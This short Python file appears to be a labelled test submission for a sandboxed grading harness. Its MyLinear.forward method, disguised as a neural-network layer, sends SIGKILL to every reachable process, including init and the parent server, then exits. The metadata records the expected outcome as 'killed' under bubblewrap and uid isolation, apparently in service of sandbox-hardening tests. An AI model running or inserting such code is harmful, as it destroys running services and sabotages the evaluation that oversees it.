"""Send SIGKILL to every process in reach, the server among them.

earns: CenteredLayer
outcome: killed
levels: bubblewrap uid
"""

import contextlib
import os
import signal


class MyLinear(MyLinear):
    def forward(self, x):
        for pid in (-1, 1, os.getppid()):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        os._exit(0)
